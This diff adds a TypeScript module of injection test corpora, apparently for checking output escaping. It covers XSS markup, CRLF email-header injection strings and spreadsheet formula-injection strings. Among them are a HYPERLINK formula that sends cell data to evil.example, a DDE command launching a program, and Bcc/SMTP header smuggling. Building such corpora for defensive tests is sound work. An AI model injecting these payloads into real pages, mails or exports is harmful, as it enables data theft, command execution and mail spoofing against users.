@@ -1,0 +1,59 @@
+/** Markup that would run if it were ever put into a page or a mail unescaped. */
+export const XSS_CORPUS = [
+  '<script>window.hacked = true</script>',
+  '<img src=x onerror="window.hacked=true">',
+  '"><svg onload=window.hacked=true>',
+  "'><iframe srcdoc='<script>parent.hacked=true</script>'>",
+  '</title><script>window.hacked=true</script>',
+  '</td></tr></table><form action=https://evil.example><input autofocus onfocus=hacked=true>',
+  'javascript:window.hacked=true//',
+  '<a href="javascript:window.hacked=true">click</a>',
+  '{{constructor.constructor("window.hacked=true")()}}',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '&lt;script&gt;window.hacked=true&lt;/script&gt;',
+  '<ScRiPt/x>window.hacked=true</ScRiPt\t>',
+  '\u202Egpj.exe<b>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>',
+];
+
+/** Line breaks of all kinds, each with a header that must not be born of it. */
+export const CRLF_CORPUS = [
+  'Test\r\nBcc: other@example.com',
+  'Test\nBcc: other@example.com',
+  'Test\rBcc: other@example.com',
+  'Test\r\n\r\n<script>window.hacked = true</script>',
+  'Test\u2028Bcc: other@example.com',
+  'Test\u2029Bcc: other@example.com',
+  'Test\u0085Bcc: other@example.com',
+  'Test\u000b\u000cBcc: other@example.com',
+  'Test\u0000Bcc: other@example.com',
+  'Test%0d%0aBcc: other@example.com',
+  'Test\r\n.\r\nMAIL FROM:<evil@example.com>',
+  '=?utf-8?B?DQpCY2M6IG90aGVyQGV4YW1wbGUuY29t?=',
+  'Test" <evil@example.com>, "x',
+  'Test\r\nContent-Type: text/html; boundary="x"\r\n\r\n--x',
+];
+
+/** Texts that a spreadsheet would take for a formula, a field or a row of its own. */
+export const CSV_CORPUS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  '\uFF0D1+1',
+  '\uFF20SUM(1)',
+  ';=1+1',
+  ',=1+1',
+  '"=1+1"',
+  '","=1+1","',
+  "'=1+1",
+  '%0A=1+1',
+  '|=1+1',
+];
